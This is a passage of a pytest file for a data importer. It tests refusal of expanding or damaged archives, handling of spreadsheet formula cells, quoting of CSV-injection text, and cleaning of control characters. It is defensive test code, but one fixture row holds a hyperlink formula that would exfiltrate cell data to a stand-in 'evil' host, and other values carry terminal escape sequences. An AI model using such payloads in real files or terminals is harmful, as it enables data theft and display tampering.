    mapping.write_text(SMALL_MAPPING)
    outcome = attempt("table", [book], tmp_path / "out", options={"mapping": mapping})
    refused(outcome, compressed.ExpansionRefused, r"the workbook expands to 2\d,\d{3},\d{3} bytes")


def test_a_damaged_gzip_is_refused_as_damaged(tmp_path):
    path = tmp_path / "ged.csv.gz"
    path.write_bytes(mutate(ucdp_input({}), "truncated-gzip"))
    refused(attempt("ucdp", [path], tmp_path / "out"), BriefingError, "a damaged gzip file")


# ---- 6. spreadsheet formulas and CSV injection -------------------------------------------------


def workbook_with_formula(path: Path, saved_result: str | None) -> Path:
    """The sheet's row with its Claim cell a formula, with or without a saved result (openpyxl
    writes none; a spreadsheet program writes one when it saves)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Claims"
    sheet.append(SHEET_HEADER.strip().split(","))
    row = SHEET_ROW.strip().split(",")
    row[4] = '=CONCATENATE("The bridge"," is down")'
    sheet.append(row)
    book.save(path)
    if saved_result is not None:
        with zipfile.ZipFile(path) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        xml = parts["xl/worksheets/sheet1.xml"].decode()
        xml = xml.replace("</f><v /></c>", f"</f><v>{saved_result}</v></c>").replace(
            '<c r="E2">', '<c r="E2" t="str">'
        )
        parts["xl/worksheets/sheet1.xml"] = xml.encode()
        path.write_bytes(_zipped(parts))
    return path


def test_a_formula_without_a_saved_result_is_refused_naming_sheet_and_cell(tmp_path):
    """Before: read as an empty cell, so the claim silently lost its statement."""
    book = workbook_with_formula(tmp_path / "claims.xlsx", None)
    mapping = tmp_path / "m.toml"
    mapping.write_text(SMALL_MAPPING)
    with pytest.raises(BriefingError) as caught:
        import_dataset("table", [book], tmp_path / "out", options={"mapping": mapping})
    assert 'worksheet "Claims": 1 formula cell(s) with no saved result (E2 ' in str(caught.value)


def test_a_formula_with_a_saved_result_reads_as_that_result(tmp_path):
    book = workbook_with_formula(tmp_path / "claims.xlsx", "The bridge is down")
    mapping = tmp_path / "m.toml"
    mapping.write_text(SMALL_MAPPING)
    dataset, report = import_dataset(
        "table", [book], tmp_path / "out", options={"mapping": mapping}
    )
    assert dataset.assertions["statement"].tolist() == ["The bridge is down"]
    assert report.handled["Excel formula cells"][0] == 1


def test_text_that_would_run_as_a_formula_is_quoted_and_numbers_are_not(tmp_path):
    """Before: written as it came; opening claims.csv in a spreadsheet ran the formulas."""
    sheet, mapping = tmp_path / "sheet.csv", tmp_path / "m.toml"
    row = ['=HYPERLINK("http://evil/?"&A1)', "+cmd", "@SUM(1)", "2025-04-08", "-5"]
    row += ["confirmed", "2025-04-08", "-5"]
    sheet.write_bytes(csv_bytes([*SHEET_HEADER.strip().split(","), "Lat"], [row]))
    mapping.write_text(
        SMALL_MAPPING.replace('statement = "Claim"', 'statement = "Claim"\nplace = "Who"')
        + '\n[place]\nlat = "Lat"\n'
    )
    dataset, _ = import_dataset("table", [sheet], tmp_path / "out", options={"mapping": mapping})
    assert dataset.sources["name"].tolist() == ['\'=HYPERLINK("http://evil/?"&A1)']
    assert dataset.documents[["publisher", "title"]].values.tolist() == [["'+cmd", "'@SUM(1)"]]
    assert dataset.assertions["statement"].tolist() == ["-5"]  # a number, not a formula
    assert dataset.places["lat"].tolist() == [-5]


def test_a_title_or_folder_name_with_control_characters_is_written_clean(tmp_path, capsys):
    """--title and --out become dataset.toml's title and name: TOML cannot hold control
    characters (the write raised a TOMLDecodeError traceback) and a title is printed."""
    from analysis.cli import main

    acled = Path(__file__).parent / "data" / "importers" / "acled" / "ukraine-march-2024.csv"
    out = tmp_path / "march\x1b[31m"
    code = main(
        ["import", "acled", str(acled), "--out", str(out), "--title", "Red\x1b[31m\u202eX\x00"]
    )
    assert code == 0, capsys.readouterr().err
    manifest = (out / "dataset.toml").read_text()
    assert 'title = "Red [31m X"' in manifest and "\x1b" not in manifest


def test_an_error_quoting_control_characters_prints_them_as_escapes(tmp_path, capsys):
    from analysis.cli import main

    code = main(
        ["import", "acled", str(tmp_path / "no\x1b[2Jfile.csv"), "--out", str(tmp_path / "o")]
    )
    err = capsys.readouterr().err
    assert code == 2 and "\x1b" not in err and "\\x1b[2Jfile.csv" in err
